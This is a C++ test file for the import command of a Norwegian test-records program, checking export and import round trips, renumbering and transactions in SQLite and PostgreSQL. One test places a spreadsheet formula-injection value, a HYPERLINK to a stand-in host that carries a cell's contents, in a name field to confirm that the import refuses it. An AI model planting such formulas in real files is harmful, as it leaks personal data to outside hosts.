// Export files read back: through the command-line tool into folders it made, and through
// the core into real SQLite files (and a PostgreSQL database where one is given). What an
// import refuses is in ImportChecksTest.cpp.
#include "TestServer.h"
#include "ToolRun.h"
#include "Exported.h"
#include "FixedArchive.h"
#include "RecordingSink.h"
#include "TempDatabase.h"
#include "store/files/ExportFile.h"
#include "store/accounts/LogChain.h"
#include "store/files/ImportFile.h"
#include "store/creation/NewDatabase.h"
#include "store/tables/PersonTable.h"
#include "store/tables/ScoreTables.h"
#include "store/tables/TestStore.h"
#include "store/connection/Workgroup.h"

#include <QBuffer>
#include <QTemporaryDir>

#include <optional>

#include <gtest/gtest.h>

using namespace tavlo;
using tavlo::test::CliRun;
using tavlo::test::fixedTest;
using tavlo::test::lines;
using tavlo::test::RecordingSink;
using tavlo::test::Rows;
using tavlo::test::runCli;
using tavlo::test::exported;
using tavlo::test::storableTest;
using tavlo::test::withField;
using tavlo::test::TempDatabase;

namespace {

QString saved(const QTemporaryDir& dir, const QByteArray& bytes)
{
    const QString path = dir.filePath(QStringLiteral("in-%1.txt").arg(qHash(bytes)));
    QFile file(path);
    EXPECT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
    return path;
}

// A folder as init-db makes it, and a connection to it.
struct Folder {
    explicit Folder(const QTemporaryDir& dir, const QString& name)
        : path(dir.filePath(name))
    {
        const CliRun run = runCli({QStringLiteral("init-db"), path, QStringLiteral("--user"), QStringLiteral("psykolog"),
                                   QStringLiteral("--password"), QStringLiteral("hemmelig1")});
        EXPECT_EQ(run.status, 0) << run.err.toStdString();
    }
    bool connect(Database& db) const
    {
        return db.DbConnect(QStringLiteral("TAVLO-II"), {}, {},
                            path + u'/' + kDatabaseFileName, path + u'/' + kWorkgroupFileName)
               == 1;
    }
    QString path;
};

QList<QByteArray> linesOf(const QByteArray& file)
{
    return file.split('\n');
}

// The file with the first field of every person line replaced as numbers maps it.
QByteArray renumbered(const QByteArray& file, const QHash<QByteArray, QByteArray>& numbers)
{
    QList<QByteArray> out = linesOf(file);
    for (qsizetype i = 1; i < out.size(); ++i) {
        const qsizetype tab = out[i].indexOf('\t');
        if (tab > 0)
            out[i] = numbers.value(out[i].first(tab), "?") + out[i].sliced(tab);
    }
    return out.join('\n');
}

// The fixed archive's shapes (gaps in the numbers, persons without one or both score rows,
// the longest texts, scores of a person who is gone) with only what the program could have
// stored, exported.
QByteArray storableArchiveFile()
{
    TempDatabase source;
    const std::pair<int, Rows> persons[] = {
        {1, Rows::All},  {2, Rows::None},     {4, Rows::ScoresOnly}, {5, Rows::GridOnly}, {6, Rows::All},
        {8, Rows::All},  {9, Rows::All},      {10, Rows::None},      {11, Rows::All},     {40, Rows::All},
        {41, Rows::All}, {1000, Rows::All},   {1001, Rows::None},
    };
    for (const auto& [id, rows] : persons) {
        TestRecord test = storableTest(id);
        if (id == 6) { // every score 0, an empty grid
            for (const MeasureInfo& m : measures())
                test.scores[m.key] = 0;
            test.grid = TestDataMF{};
        }
        if (id == 9) { // three bytes a character in UTF-8
            test.person.NAMN = QString(kPersonTextLimit, QChar(0x20AC));
            test.person.SKOLA = QString(kPersonTextLimit, QChar(0xE6));
        }
        tavlo::test::storeFixed(source.db, test, rows);
    }
    TestRecord orphan = storableTest(50);
    EXPECT_EQ(InsertTestData(source.db, orphan), 1);
    return exported(source.db);
}

void makeLargeArchive(TempDatabase& t)
{
    Transaction transaction(t.db);
    for (int i = 1; i <= 1500; ++i) {
        const int id = 3 * i + i % 7; // gaps of every width
        TestRecord test = storableTest(id);
        test.person.NAMN = QStringLiteral("Ærlig Øvrebø %1 – «%2»").arg(i).arg(i % 13);
        if (i % 11 == 0)
            test.person.OTHER.clear();
        tavlo::test::storeFixed(t.db, test, i % 17 == 0 ? Rows::None : i % 19 == 0 ? Rows::GridOnly : Rows::All);
    }
    ASSERT_TRUE(transaction.commit());
}

// The test server's database through a workgroup file in dir, as its administrator.
bool connectToServer(const QTemporaryDir& dir, const QString& connectionTemplate, Database& db)
{
    const QString workgroup = dir.filePath(kWorkgroupFileName);
    const tavlo::test::ServerLogin account = tavlo::test::serverAdmin();
    return WriteWorkgroupFile(workgroup, connectionTemplate, nullptr)
           && db.DbConnect(QStringLiteral("TAVLO-II"), account.user, account.password, dir.filePath(kDatabaseFileName),
                           workgroup)
                  == 1;
}

// The server's database without tests, its counter at 0 (the log only grows).
void emptyServer(Database& db)
{
    for (const char* sql : {"DELETE FROM TESTPERSON", "DELETE FROM TESTDATA_TAVLO", "DELETE FROM TESTDATA_TAVLO_MF",
                            "UPDATE TESTPERSON_COUNTER SET LAST_ID = 0"}) {
        Statement s(db);
        ASSERT_TRUE(s.execDirect(QLatin1String(sql))) << s.diagnostic().toStdString();
    }
}

} // namespace

TEST(ImportCli, MovesAnArchiveByteForByteAndRenumbersIntoAFolderWithTests)
{
    RecordingSink sink;
    const QByteArray file = storableArchiveFile();
    QTemporaryDir dir;
    const Folder target(dir, QStringLiteral("ny"));
    const QString path = saved(dir, file);

    CliRun run = runCli({QStringLiteral("import"), target.path, path});
    EXPECT_EQ(run.status, 0) << run.err.toStdString();
    EXPECT_EQ(run.out, QStringLiteral("13 tester er lagret med numrene fra filen.\n"));
    EXPECT_TRUE(run.err.isEmpty()) << run.err.toStdString();
    Database db;
    ASSERT_TRUE(target.connect(db));
    EXPECT_EQ(exported(db), file);

    // Again into the same folder: every test under a new number after the highest.
    run = runCli({QStringLiteral("import"), target.path, path});
    EXPECT_EQ(run.status, 0) << run.err.toStdString();
    QHash<QByteArray, QByteArray> numbers;
    QStringList expected;
    int next = 1002;
    for (const int old : {1, 2, 4, 5, 6, 8, 9, 10, 11, 40, 41, 1000, 1001}) {
        expected.append(QStringLiteral("%1\t%2").arg(old).arg(next));
        numbers.insert(QByteArray::number(old), QByteArray::number(next++));
    }
    EXPECT_EQ(lines(run.out), expected);
    const QByteArray again = renumbered(file, numbers);
    EXPECT_EQ(exported(db), file + again.sliced(again.indexOf('\n') + 1)) << "only the numbers differ";

    // The counter passed them all: the next test saved gets a fresh number.
    TestRecord next1 = fixedTest(1);
    ASSERT_TRUE(SaveTest(db, next1, true));
    EXPECT_EQ(next1.person.ID, 1015);
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
}

TEST(ImportCli, MovesALargeArchiveByteForByte)
{
    TempDatabase source;
    RecordingSink sink;
    makeLargeArchive(source);
    const QByteArray file = exported(source.db);
    QTemporaryDir dir;
    const Folder target(dir, QStringLiteral("stor"));
    const CliRun run = runCli({QStringLiteral("import"), target.path, saved(dir, file)});
    EXPECT_EQ(run.status, 0) << run.err.toStdString();
    EXPECT_EQ(run.out, QStringLiteral("1500 tester er lagret med numrene fra filen.\n"));
    Database db;
    ASSERT_TRUE(target.connect(db));
    const QByteArray back = exported(db);
    EXPECT_EQ(back.size(), file.size());
    EXPECT_TRUE(back == file);
    // A person line without a value stored the person alone, as in the archive it came from.
    TestRecord alone = fixedTest(3 * 17 + 17 % 7);
    EXPECT_EQ(ReadTestData(db, alone), 9);
    // The counter passed the file's numbers: not even the highest, deleted, comes back.
    const int highest = 3 * 1500 + 1500 % 7;
    ASSERT_TRUE(DeleteTest(db, highest));
    TestRecord next = fixedTest(1);
    ASSERT_TRUE(SaveTest(db, next, true));
    EXPECT_EQ(next.person.ID, highest + 1);
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
}

TEST(ImportCli, ReportsUsageEmptyHeaderOnlyAndDamagedFiles)
{
    QTemporaryDir dir;
    const Folder target(dir, QStringLiteral("f"));
    CliRun run = runCli({QStringLiteral("import"), target.path});
    EXPECT_EQ(run.status, 2);
    EXPECT_TRUE(run.err.contains(u"usage: tavlo-ii-cli import FOLDER IN.txt")) << run.err.toStdString();
    run = runCli({QStringLiteral("import"), QStringLiteral("--help")});
    EXPECT_EQ(run.status, 0);
    EXPECT_TRUE(run.out.startsWith(u"usage: tavlo-ii-cli import FOLDER IN.txt")) << run.out.toStdString();

    run = runCli({QStringLiteral("import"), target.path, saved(dir, {})});
    EXPECT_EQ(run.status, 1);
    EXPECT_TRUE(run.err.contains(u"Filen er tom")) << run.err.toStdString();
    EXPECT_TRUE(run.out.isEmpty());

    TempDatabase empty;
    const QByteArray header = exported(empty.db);
    run = runCli({QStringLiteral("import"), target.path, saved(dir, header)});
    EXPECT_EQ(run.status, 0) << run.err.toStdString();
    EXPECT_EQ(run.out, QStringLiteral("Filen har ingen tester; ingenting er lagret.\n"));

    TestRecord test = storableTest(7);
    ASSERT_TRUE(SaveTest(empty.db, test, true));
    const QByteArray one = exported(empty.db);
    // A spreadsheet opening the export would run the name.
    for (const auto& [damaged, where] :
         {std::pair{withField(one, 2, 11, "2017-02-30"), u"Linje 2, felt TESTDAT:"},
          std::pair{withField(one, 2, 2, "=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")"), u"Linje 2, felt NAMN:"}}) {
        run = runCli({QStringLiteral("import"), target.path, saved(dir, damaged)});
        EXPECT_EQ(run.status, 1);
        EXPECT_TRUE(run.err.contains(where)) << run.err.toStdString();
        EXPECT_TRUE(run.err.contains(u"Ingenting er importert.")) << run.err.toStdString();
        EXPECT_TRUE(run.out.isEmpty());
    }

    run = runCli({QStringLiteral("import"), target.path, dir.filePath(QStringLiteral("borte.txt"))});
    EXPECT_EQ(run.status, 1);
    EXPECT_TRUE(run.err.contains(u"kan ikke leses")) << run.err.toStdString();
    Database db;
    ASSERT_TRUE(target.connect(db));
    EXPECT_EQ(exported(db), header) << "nothing stored by any of them";
}

TEST(Import, ANumberOnceGivenOutIsNotKept)
{
    TempDatabase source;
    for (const int id : {1, 2}) {
        TestRecord test = fixedTest(id);
        ASSERT_EQ(InsertPersonWithId(source.db, test.person), 1);
    }
    const QByteArray file = exported(source.db);
    TempDatabase target;
    RecordingSink sink;
    // Number 1 was given out and deleted: the tests take 2 and 3, the counter stands at 3.
    TestRecord gone = fixedTest(9);
    ASSERT_TRUE(SaveTest(target.db, gone, true));
    ASSERT_TRUE(DeleteTest(target.db, gone.person.ID));
    const ImportResult result = ImportTests(target.db, file);
    ASSERT_EQ(result.outcome, ImportOutcome::Stored) << result.message.toStdString();
    EXPECT_FALSE(result.numbersKept);
    EXPECT_EQ(result.numbers, (std::vector<std::pair<int, int>>{{1, 2}, {2, 3}}));
    EXPECT_EQ(NextPersonId(target.db), 3);
    EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
}

namespace {

// A database on the test server, when one is given (see PostgresTest.cpp), and the large
// archive to move into it. Its access log is whole afterwards, and nothing was shown.
class ImportPostgres : public ::testing::Test {
protected:
    void SetUp() override
    {
        const QString connectionTemplate = qEnvironmentVariable("TAVLO_TEST_POSTGRES_TEMPLATE");
        if (connectionTemplate.isEmpty())
            GTEST_SKIP() << "TAVLO_TEST_POSTGRES_TEMPLATE is not set";
        TempDatabase source;
        makeLargeArchive(source);
        large = exported(source.db);
        ASSERT_TRUE(connectToServer(dir, connectionTemplate, db));
    }

    void TearDown() override
    {
        if (!db.isConnected())
            return;
        QString error;
        const auto verdict = VerifyAccessLog(db, &error);
        ASSERT_TRUE(verdict) << error.toStdString();
        EXPECT_TRUE(verdict->whole) << verdict->text.toStdString();
        EXPECT_TRUE(sink.messages.isEmpty()) << sink.texts().join(u'\n').toStdString();
    }

    RecordingSink sink;
    QByteArray large;
    QTemporaryDir dir;
    Database db;
};

} // namespace

// The fixed archive, and a large one that goes to the server many rows to a statement.
TEST_F(ImportPostgres, MovesTheFixedAndALargeArchiveByteForByte)
{
    const struct {
        const char* what;
        QByteArray file;
        int next;
    } archives[] = {{"fixed", storableArchiveFile(), 1001}, {"large", large, 3 * 1500 + 1500 % 7}};
    for (const auto& archive : archives) {
        SCOPED_TRACE(archive.what);
        emptyServer(db);
        const ImportResult result = ImportTests(db, archive.file);
        ASSERT_EQ(result.outcome, ImportOutcome::Stored) << result.message.toStdString();
        EXPECT_TRUE(result.numbersKept);
        EXPECT_TRUE(exported(db) == archive.file);
        EXPECT_EQ(NextPersonId(db), archive.next);
    }

    // A row the server refuses in the large file's second statement: the message names its
    // own line, and nothing of the file stays.
    const auto run = [&](const QString& sql) {
        Statement s(db);
        EXPECT_TRUE(s.execDirect(sql)) << s.diagnostic().toStdString();
    };
    for (const char* table : {"TESTPERSON", "TESTDATA_TAVLO", "TESTDATA_TAVLO_MF"})
        run(QStringLiteral("DELETE FROM %1").arg(QLatin1String(table)));
    run(QStringLiteral("UPDATE TESTPERSON_COUNTER SET LAST_ID = 0"));
    const int refused = 3 * 40 + 40 % 7; // the 40th test, on line 41
    run(QStringLiteral("CREATE FUNCTION tavlo_stopp() RETURNS trigger AS $$ BEGIN IF NEW.MF_ID = %1 THEN "
                       "RAISE EXCEPTION 'stoppet'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql")
            .arg(refused));
    run(QStringLiteral("CREATE TRIGGER stopp BEFORE INSERT ON TESTDATA_TAVLO_MF FOR EACH ROW EXECUTE FUNCTION tavlo_stopp()"));
    const ImportResult result = ImportTests(db, large);
    EXPECT_EQ(result.outcome, ImportOutcome::Failed);
    EXPECT_TRUE(result.message.startsWith(QStringLiteral("Linje 41 (testperson nummer %1) kan ikke lagres:").arg(refused)))
        << result.message.toStdString();
    EXPECT_TRUE(result.message.contains(u"stoppet")) << result.message.toStdString();
    Statement count(db);
    ASSERT_TRUE(count.execDirect(QStringLiteral("SELECT COUNT(*) FROM TESTPERSON")) && count.fetch() == Fetch::Row);
    EXPECT_EQ(count.getInt(1), 0);
    count.closeCursor();
    run(QStringLiteral("DROP TRIGGER stopp ON TESTDATA_TAVLO_MF"));
    run(QStringLiteral("DROP FUNCTION tavlo_stopp()"));
}

// On a server the import is one transaction without a savepoint per statement: every row it
// writes carries that transaction's id (a statement in a savepoint writes under an id of its
// own). Inside the caller's transaction it is part of that one, and goes with its rollback.
TEST_F(ImportPostgres, WritesInOneTransactionOfItsOwnOrTheCallers)
{
    const auto number = [&](const QString& sql) {
        Statement s(db);
        EXPECT_TRUE(s.execDirect(sql) && s.fetch() == Fetch::Row) << s.diagnostic().toStdString();
        return s.getText(1).toLongLong();
    };
    const struct {
        const char* what;
        bool insideTheCallers;
        int testsAfter;
    } cases[] = {{"alone", false, 1500}, {"inside the caller's transaction, rolled back", true, 0}};
    for (const auto& c : cases) {
        SCOPED_TRACE(c.what);
        emptyServer(db);
        const qint64 logged = number(QStringLiteral("SELECT COALESCE(MAX(LOPENR), 0) FROM LOGG"));
        std::optional<Transaction> callers;
        if (c.insideTheCallers)
            callers.emplace(db);
        const ImportResult result = ImportTests(db, large);
        ASSERT_EQ(result.outcome, ImportOutcome::Stored) << result.message.toStdString();
        if (callers)
            callers->rollback();
        EXPECT_EQ(number(QStringLiteral("SELECT COUNT(*) FROM TESTPERSON")), c.testsAfter);
        if (!c.insideTheCallers) {
            EXPECT_EQ(number(QStringLiteral("SELECT COUNT(DISTINCT x) FROM (SELECT xmin::text AS x FROM TESTPERSON "
                                            "UNION ALL SELECT xmin::text FROM TESTDATA_TAVLO UNION ALL SELECT xmin::text "
                                            "FROM TESTDATA_TAVLO_MF UNION ALL SELECT xmin::text FROM LOGG WHERE LOPENR > %1 "
                                            "UNION ALL SELECT xmin::text FROM LOGGHODE UNION ALL SELECT xmin::text FROM "
                                            "TESTPERSON_COUNTER) AS written")
                                 .arg(logged)),
                      1);
        }
    }
}
